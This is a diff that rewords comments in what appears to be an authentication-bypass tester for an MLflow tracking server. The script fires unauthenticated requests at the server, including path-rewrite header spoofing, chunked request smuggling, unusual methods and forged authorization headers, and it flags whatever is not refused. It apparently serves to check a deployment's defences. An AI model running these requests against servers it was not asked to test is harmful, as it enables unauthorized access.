@@ -1,9 +1,9 @@
-"""Everything an intruder without a password may send to a door of the tracking server.
+"""Sends requests without a valid password to ports of the tracking server, of every kind that an attacker may try.
 
     python attack.py HOST:PORT... [--open PATH...] [--gives TEXT] [--refusal STATUS...] [--at-once NUMBER]
 
-Prints, as JSON, how many requests it sent and what got more than a refusal: [door, attack, answer]. Requests that
-write bear the name `intruder`, so that what got through can be found afterwards, answered or not.
+Prints, as JSON, how many requests it sent and which were not refused: [address, attack, answer]. Requests that write
+use the name `intruder`, so that a test can find what they created, also without an answer.
 """
 
 import argparse
@@ -25,7 +25,7 @@ PATHS = [
     *["/ajax-api/3.0/mlflow/get-trace-artifact?request_id=x", "/ajax-api/2.0/mlflow/runs/create-promptlab-run"],
 ]
 METHODS = ["GET", "POST", "OPTIONS", "HEAD", "PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "PROPFIND", "get", "X"]
-# What stands before or behind a proxy and believes such a header would take the intruder for somebody else.
+# A server that trusts such a header would accept the attacker as another user.
 HEADERS = [
     *[f"{name}: {value}" for name in ("X-Original-URL", "X-Rewrite-URL", "X-Original-URI", "X-Accel-Redirect")
       for value in ("/health", EXPERIMENTS)],
@@ -63,13 +63,13 @@ PATH_TRICKS = [
 
 
 def request(method, target, *headers, version="HTTP/1.1", host="Host: localhost", body=""):
-    # A Host that MLflow takes, so that it is the login that refuses.
+    # A Host that MLflow accepts, so that the login refuses the request.
     lines = [f"{method} {target} {version}", *([host] if host else []), "Connection: close", *headers]
     return "\r\n".join(lines) + "\r\n\r\n" + body
 
 
 def smuggled():
-    """Requests whose body is a second request for whoever counts the body's length in another way."""
+    """Requests whose body is a second request for a server that determines the body's length differently."""
     body = json.dumps({"name": "intruder-smuggled"})
     hidden = request("POST", CREATE, "Content-Type: application/json", f"Content-Length: {len(body)}", body=body)
     chunk = f"{len(hidden):x}\r\n{hidden}\r\n0\r\n\r\n"
@@ -135,7 +135,7 @@ def attacks():
         if number < 12:
             yield f"Proxy-Authorization {value[:40]!r}", request("GET", EXPERIMENTS, f"Proxy-Authorization: {value}")
     both = [f"Authorization: {basic[0]}", f"Authorization: {basic[4]}"]
-    # For its gateway MLflow takes a header of its own.
+    # MLflow's gateway accepts its own header.
     for value in basic[:5]:
         own = f"X-MLflow-Authorization: {value}"
         yield own, request("POST", "/gateway/x/mlflow/invocations", own)
@@ -163,14 +163,14 @@ async def exchange(host, port, text, seconds):
             while data := await reader.read(65536):
                 answer += data
     except (TimeoutError, ConnectionError):
-        pass  # it waits for more, or has had enough: what came until then counts
+        pass  # It waits for more, or closed the connection: the bytes until then are the answer.
     finally:
         writer.transport.abort()
     return answer
 
 
 def answers(raw, bodiless):
-    """(status, body) of each HTTP answer in what came."""
+    """(status, body) of each HTTP answer in the bytes."""
     while raw:
         head, _, rest = raw.partition(b"\r\n\r\n")
         status = re.match(rb"HTTP/1\.[01] (\d{3})", head)
@@ -185,12 +185,12 @@ def answers(raw, bodiless):
 
 # HTTP/0.9 has no status.
 IN_WORDS = (b'"UNAUTHENTICATED"', b'"BAD_REQUEST"', b'"ENDPOINT_NOT_FOUND"', b"Invalid Host header")
-# 429 is for wrong passwords only: a right one passes the limit, so that this refusal says as much as a 401.
+# 429 is for wrong passwords only: the limit does not apply to right ones, so 429 reveals no more than 401.
 REFUSALS = {100, 400, 401, 403, 404, 405, 408, 411, 413, 414, 415, 417, 421, 422, 426, 429, 431, 501, 505}
 
 
 def got_in(raw, text, refusals):
-    """What is more than a refusal, or MLflow's word that it is well."""
+    """The first answer that is neither a refusal nor the OK of /health."""
     bodiless = text.startswith("HEAD ")
     for status, body in answers(raw, bodiless):
         healthy = status in (0, 200) and (body == b"OK" or bodiless and text.startswith("HEAD /health "))
@@ -202,19 +202,19 @@ def got_in(raw, text, refusals):
 
 async def main():
     parser = argparse.ArgumentParser()
-    parser.add_argument("doors", nargs="+")
-    parser.add_argument("--open", nargs="*", default=[], help="beginnings of paths that are open on purpose")
-    parser.add_argument("--gives", default=None, help="what the door is there for: an answer with this text is right")
-    parser.add_argument("--refusal", nargs="*", type=int, default=[], help="further statuses that give nothing away")
-    parser.add_argument("--at-once", type=int, default=24, help="where passwords are slow, more are sent away unjudged")
+    parser.add_argument("addresses", nargs="+")
+    parser.add_argument("--open", nargs="*", default=[], help="prefixes of paths that need no password")
+    parser.add_argument("--gives", default=None, help="the text that the port serves without a password")
+    parser.add_argument("--refusal", nargs="*", type=int, default=[], help="further statuses that are refusals")
+    parser.add_argument("--at-once", type=int, default=24, help="requests at once: if hashes are slow, the server does not check more")
     options = parser.parse_args()
     refusals = REFUSALS | set(options.refusal)
     gate = asyncio.Semaphore(options.at_once)
     every = [(name, text) for name, text in attacks()]
     report = {"tried": 0, "got_in": []}
 
-    async def send(door, name, text):
-        host, port = door.rsplit(":", 1)
+    async def send(address, name, text):
+        host, port = address.rsplit(":", 1)
         async with gate:
             raw = await exchange(host, int(port), text, 8)
         report["tried"] += 1
@@ -222,9 +222,9 @@ async def main():
         target = text.partition(" ")[2]
         right = options.gives and options.gives.encode() in raw
         if found and not right and not any(target.startswith(path) for path in options.open):
-            report["got_in"].append([door, name, found])
+            report["got_in"].append([address, name, found])
 
-    await asyncio.gather(*(send(door, *each) for door in options.doors for each in every))
+    await asyncio.gather(*(send(address, *each) for address in options.addresses for each in every))
     print(json.dumps(report))
 
 
